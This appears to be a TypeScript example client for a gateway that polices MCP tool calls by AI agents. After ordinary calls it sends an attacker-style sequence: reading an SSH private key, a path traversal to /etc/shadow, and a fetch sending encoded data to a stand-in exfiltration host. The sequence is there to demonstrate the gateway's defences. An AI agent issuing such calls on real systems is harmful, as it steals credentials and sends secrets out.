// An example MCP client: connects to the gateway with an agent's bearer token, lists the tools, makes a
// few ordinary calls and then an attack-like sequence, and prints what the gateway decided.
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { DECISION_META_KEY } from './gateway.js';

/** Opens an MCP session at the gateway as the agent the token belongs to. */
export async function connectAsAgent(
  url: URL,
  token: string,
  name = 'harombe-example-client',
): Promise<Client> {
  const client = new Client({ name, version: '1.0.0' });
  await client.connect(
    new StreamableHTTPClientTransport(url, {
      requestInit: { headers: { Authorization: `Bearer ${token}` } },
    }),
  );
  return client;
}

/** The text of a tool result, and whether the gateway denied it or paused the agent (throttled). */
export function describeResult(result: CallToolResult): {
  denied: boolean;
  throttled: boolean;
  text: string;
} {
  const decision = result._meta?.[DECISION_META_KEY] as { decision?: string } | undefined;
  const text = result.content
    .map((c) => (c.type === 'text' ? c.text : `[${c.type}]`))
    .join(' ')
    .trim();
  return { denied: decision?.decision === 'deny', throttled: decision?.decision === 'throttle', text };
}

/** The example session: ordinary calls, then off-pattern reads and a fetch to a new host. */
export async function runExampleClient(
  url: URL,
  token: string,
  docsHost: string,
  print: (line: string) => void,
): Promise<void> {
  const client = await connectAsAgent(url, token);
  try {
    const { tools } = await client.listTools();
    print(`tools: ${tools.map((t) => t.name).join(', ')}`);
    const calls: Array<[string, Record<string, unknown>]> = [
      ['list_dir', { path: 'logs' }],
      ['read_file', { path: 'logs/file-3.txt' }],
      ['web_fetch', { url: `http://${docsHost}/status` }],
      ['read_file', { path: 'logs/file-7.txt' }],
      // What an attacker would try: secrets outside the usual locations, and a new host.
      ['read_file', { path: 'secrets/id_rsa' }],
      ['read_file', { path: '../../etc/shadow' }],
      ['web_fetch', { url: 'http://exfil.example.net/upload?d=c2VjcmV0' }],
    ];
    for (const [name, args] of calls) {
      const result = (await client.callTool({ name, arguments: args })) as CallToolResult;
      const { denied, throttled, text } = describeResult(result);
      const verdict = denied
        ? 'DENIED   '
        : throttled
          ? 'THROTTLED'
          : result.isError
            ? 'error    '
            : 'allowed  ';
      print(`${verdict} ${name}(${JSON.stringify(args)}): ${text.split('\n')[0]}`);
    }
  } finally {
    await client.close();
  }
}
